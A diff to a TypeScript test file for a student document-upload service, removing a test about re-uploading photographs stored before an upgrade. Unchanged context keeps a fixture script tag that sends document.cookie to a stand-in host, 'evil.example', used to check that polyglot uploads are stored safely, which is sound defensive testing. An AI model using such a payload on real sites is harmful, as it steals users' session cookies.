@@ -1,9 +1,7 @@
-import { createHash } from 'node:crypto'
 import sharp from 'sharp'
 import * as v from 'valibot'
 import { expect, test } from 'vitest'
 import { documentTypes } from '../../src/spec/documents.ts'
-import { canvasJpeg } from '../../tests/photos/canvas.ts'
 import { insertSegments, segment } from '../../tests/photos/exif.ts'
 import { chunk, header, png, withJpegSize } from '../../tests/photos/pictures.ts'
 import { comparisonsOf } from '../src/operator/comparisons.ts'
@@ -16,7 +14,7 @@ import { enrolAndConfirm, from, students } from './setup/visitor.ts'
 /** Pictures that are more, or cost more, than a photograph; and whoever sends a right one meanwhile. */
 
 const { server, visitor } = await oneCampus([])
-const { aminata, moussa, fatoumata, mariam } = students
+const { aminata, moussa, fatoumata } = students
 const [stranger, home] = [from('198.51.100.66'), from('198.51.100.7')]
 const script = Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>')
 const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(40, 'z'), Buffer.from('PK\x05\x06')])
@@ -87,41 +85,6 @@ test('a photograph that is also a script and an archive is stored as the photogr
   await server.operate({ name: 'accept', matricule, type: 'simcard' })
   expect((await send(matricule, 'simcard', hostile)).json.status).toBe(1)
   expect((await send(matricule, 'simcard', await photograph(4))).json.status).toBe(0)
-})
-
-test('a photograph that was stored whole before the upgrade is the same when it comes again', async () => {
-  const { matricule } = mariam
-  await enrolAndConfirm(server, visitor, mariam, '76000004')
-  const digest = createHash('sha256').update(canvasJpeg).digest('hex')
-  const upgraded = () =>
-    server.database.query('UPDATE documents SET image = $2, digest = $3 WHERE matricule = $1', [
-      matricule,
-      canvasJpeg,
-      digest,
-    ])
-  const again = async (call: string) => (await visitor.call(call, { matricule, type: 'attest', image }, home)).json
-  const states = () =>
-    server.database.query(
-      `SELECT state, digest, (SELECT count(*)::int FROM document_versions v WHERE v.matricule = d.matricule) AS earlier
-       FROM documents d WHERE matricule = $1`,
-      [matricule],
-    )
-  const image = canvasJpeg.toString('base64')
-  const stored = { status: 1, msg: 'Document enregistré.' }
-  expect(await again('files/upload')).toEqual(stored)
-  await upgraded()
-  for (const [state, decision] of [
-    ['received', undefined],
-    ['rejected', { name: 'reject', message: 'Floue' }],
-    ['validated', { name: 'accept' }],
-  ] as const) {
-    if (decision) await server.operate({ ...decision, matricule, type: 'attest' })
-    expect(await again('files/upload')).toEqual(stored)
-    expect(await states()).toEqual([{ state, digest, earlier: 0 }])
-  }
-  await server.operate({ name: 'reject', matricule, type: 'attest', message: 'Floue' })
-  expect(await again('files/update/attest')).toEqual(stored)
-  expect(await states()).toMatchObject([{ state: 'received', earlier: 0 }])
 })
 
 test('a stranger’s junk does not use up the tries of a student', async () => {
